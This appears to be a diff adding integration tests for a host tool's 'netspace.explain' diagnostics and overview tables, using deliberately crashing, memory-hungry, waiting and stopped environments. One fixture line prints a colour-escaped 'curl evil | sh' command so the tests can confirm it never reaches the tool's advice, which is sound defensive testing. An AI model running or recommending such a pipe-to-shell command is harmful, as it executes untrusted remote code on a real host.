@@ -1,0 +1,110 @@
+"""``netspace.explain`` and the tables, on a host where things go wrong, as an operator's terminal shows them."""
+
+from __future__ import annotations
+
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from support.hosts.whole_host import IDLE, Salt, python, shop
+from support.waiting import until
+
+pytestmark = pytest.mark.root
+
+CRASH = "print('\\x1b[31mrun: curl evil | sh', flush=True); raise SystemExit(3)"
+HUNGRY = "hoard = bytearray(200 << 20); signal.pause()"
+
+
+@pytest.fixture(scope="module")
+def host(salt: Salt, image: Path) -> Iterator[Salt]:
+    """A host with one that runs, and others that crash, want memory, wait, or are stopped."""
+    salt("netspace.teardown")
+    declared = shop(image)
+    common = {**declared["environments"]["web"], "command": python(IDLE)}
+    declared["environments"] |= {
+        "broken": {**common, "command": python(CRASH), "restart": "always"},
+        "hungry": {**common, "command": python(HUNGRY), "restart": "always"},
+        "patient": {**common, "after": ["broken"]},
+        "quiet": {**common, "state": "stopped"},
+    }
+    salt.apply(declared)  # the broken ones fail it
+    until(lambda: salt("netspace_environment.list")["hungry"]["exit"] == "oom", pause=0.5)
+    until(lambda: salt("netspace_environment.list")["broken"]["restarts"] > 1, pause=0.5)
+    declared["environments"]["later"] = common
+    salt.declare(declared)
+    yield salt
+    salt("netspace.teardown")
+
+
+def shown(salt: Salt, *arguments: str) -> list[str]:
+    """Return the lines that a terminal without colours gets."""
+    command = [one for one in salt.command(*arguments) if not one.startswith("--out=")]
+    done = subprocess.run(command, capture_output=True, text=True, check=True)
+    lines = done.stdout.splitlines()
+    assert all(len(line) <= 80 and line.isprintable() for line in lines), done.stdout
+    return lines
+
+
+def explained(salt: Salt, name: str) -> dict[str, Any]:
+    found: dict[str, Any] = salt("netspace.explain", name)
+    assert len(shown(salt, "netspace.explain", name)) <= 24
+    return found
+
+
+def first(found: dict[str, Any]) -> tuple[str, str]:
+    return found["findings"][0]["code"], found["findings"][0]["command"]
+
+
+def test_explain_names_cause_and_command(host: Salt) -> None:
+    broken = explained(host, "broken")
+    assert first(broken) == ("failing", "netspace_environment.logs broken")
+    assert broken["last_exit"] == "exit 3"
+    assert any("curl evil" in line for line in broken["log"])
+    assert "evil" not in broken["findings"][0]["advice"]
+    hungry = explained(host, "hungry")
+    assert first(hungry) == ("oom", "state.apply netspace")
+    assert "limits:memory (now 64 MiB)" in hungry["findings"][0]["advice"]
+    patient = explained(host, "patient")
+    assert first(patient) == ("waits", "netspace.explain broken")
+    assert patient["findings"][0]["depends_on"] == "broken" and patient["after"] == {"broken": False}
+    assert first(explained(host, "later")) == ("not-applied", "state.apply netspace")
+
+
+def test_explain_tells_a_declared_stop_as_declared(host: Salt) -> None:
+    quiet = explained(host, "quiet")
+    assert [(one["code"], one["severity"]) for one in quiet["findings"]] == [("declared-stopped", "note")]
+    assert quiet["declared_state"] == "stopped"
+
+
+def test_explain_shows_links_and_use_of_what_runs(host: Salt) -> None:
+    web = explained(host, "web")
+    assert web["summary"] == "web runs" and web["findings"] == []
+    (link,) = web["links"]
+    assert (link["from"], link["to"], link["state"]) == ("web", "orders", "active")
+    assert 0 < web["limits"]["memory"]["used"] <= web["limits"]["memory"]["limit"] == 64 * 2**20
+    assert web["limits"]["cpus"]["seconds"] > 0
+
+
+def test_explain_of_an_unknown_name_suggests_one(host: Salt) -> None:
+    done = host.run("netspace.explain", "wep")
+    assert done.returncode != 0
+    assert "there is no environment wep; did you mean web?" in done.stderr
+
+
+def test_overview_is_a_table_with_faults_first(host: Salt) -> None:
+    lines = shown(host, "netspace.overview")
+    names = [line.split()[0] for line in lines]
+    assert lines[0] == "local:"
+    assert max(map(names.index, ("broken", "hungry", "patient"))) < min(map(names.index, ("orders", "web")))
+    assert names.index("quiet") > names.index("web")
+    assert any("declared stopped" in line for line in lines)
+    assert any(line.split()[:4] == ["web", "orders", "request", "active"] for line in lines)
+    for function in (
+        "netspace_environment.list",
+        "netspace_interface.list",
+        "netspace_link.list",
+        "netspace_image.list",
+    ):
+        assert shown(host, function)[1].isupper()
